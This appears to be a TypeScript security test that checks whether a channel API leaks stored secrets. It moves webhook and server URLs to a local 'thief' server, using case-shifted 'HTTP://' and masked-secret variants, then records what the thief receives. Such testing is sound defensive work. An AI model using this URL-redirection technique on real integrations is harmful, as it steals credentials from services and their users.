import * as z from 'zod';
import type { FakeVendor } from '../vendors/vendor.ts';
import { serveVendor } from '../vendors/vendor.ts';
import { Channel, type Rig } from './rig.ts';
import { loadVendors } from '../vendors/load-vendors.ts';

const ADDRESSES = ['url', 'webhookUrl', 'serverUrl', 'apiBaseUrl'];
const Kinds = z.object({ items: z.array(z.object({ name: z.string(), secretFields: z.array(z.string()) })) });

/** Moves each address of each kind to a host that listens, with the masks in the place of the secrets. */
export async function exfiltration(rig: Rig): Promise<string> {
  const { text } = await rig.request('GET', '/api/v1/channel-kinds', { token: rig.attacker.token });
  const secretsOf = new Map(Kinds.parse(JSON.parse(text)).items.map(({ name, secretFields }) => [name, secretFields]));
  let tried = 0;
  for (const vendor of await loadVendors()) tried += await moveAddresses(rig, vendor, secretsOf.get(vendor.kind) ?? []);
  return `${tried} changes of an address`;
}

async function moveAddresses(rig: Rig, vendor: FakeVendor, secretFields: readonly string[]): Promise<number> {
  await using home = await serveVendor((request) => vendor.answer(request));
  await using thief = await serveVendor((request) => vendor.answer(request));
  const config = vendor.config(home.baseUrl);
  const fields = ADDRESSES.filter((field) => typeof config[field] === 'string' && !secretFields.includes(field));
  const hasSecrets = secretFields.some((field) => Object.hasOwn(config, field.split('.')[0] ?? ''));
  if (!hasSecrets) return 0;
  const channel = await rig.call(Channel, 'POST', '/channels', { kind: vendor.kind, name: 'secretive', config });
  const path = `/api/v1/organizations/${rig.attacker.organizationId}/channels/${channel.id}`;
  const { token } = rig.attacker;
  let tried = 0;
  for (const field of fields) {
    const moved = String(config[field]).replace(home.baseUrl, thief.baseUrl);
    const shouting = moved.replace('http://', 'HTTP://');
    const changes = [
      { [field]: moved },
      { [field]: shouting },
      { ...channel.config, [field]: moved },
      { [field]: moved, ...Object.fromEntries(secretFields.map((secret) => [secret, '••••'])) },
    ];
    for (const change of changes) {
      const { status } = await rig.request('PATCH', path, { token, body: JSON.stringify({ config: change }) });
      if (status !== 400) rig.findings.push(`${vendor.kind}: ${field} was moved, answered ${status}`);
      await rig.request('POST', `${path}/test`, { token });
      tried += 1;
    }
  }
  for (const { headers, body, url } of thief.requests) {
    const all = JSON.stringify([headers, body, String(url)]);
    for (const secret of secretFields) {
      const value = config[secret.split('.')[0] ?? ''];
      if (typeof value === 'string' && all.includes(value))
        rig.findings.push(`${vendor.kind}: ${secret} was sent away`);
    }
  }
  return tried;
}
